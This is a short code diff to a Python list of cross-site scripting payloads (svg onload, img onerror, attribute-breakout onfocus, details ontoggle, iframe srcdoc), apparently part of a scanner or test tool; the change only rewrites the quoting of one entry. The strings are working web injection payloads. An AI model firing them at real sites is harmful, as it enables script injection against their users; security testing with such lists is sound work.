@@ -25,7 +25,7 @@ PAYLOADS = [
     f"<svg onload={RUN}>",
     f"<svg><script>{RUN}</script></svg>",
     f"'\"><img src=x onerror={RUN}>",
-    f"\" autofocus onfocus={RUN} x=\"",
+    f'" autofocus onfocus={RUN} x="',
     f"' onmouseover='{RUN}",
     f"<details open ontoggle={RUN}>",
     f"<iframe srcdoc='<script>parent.{RUN}</script>'>",
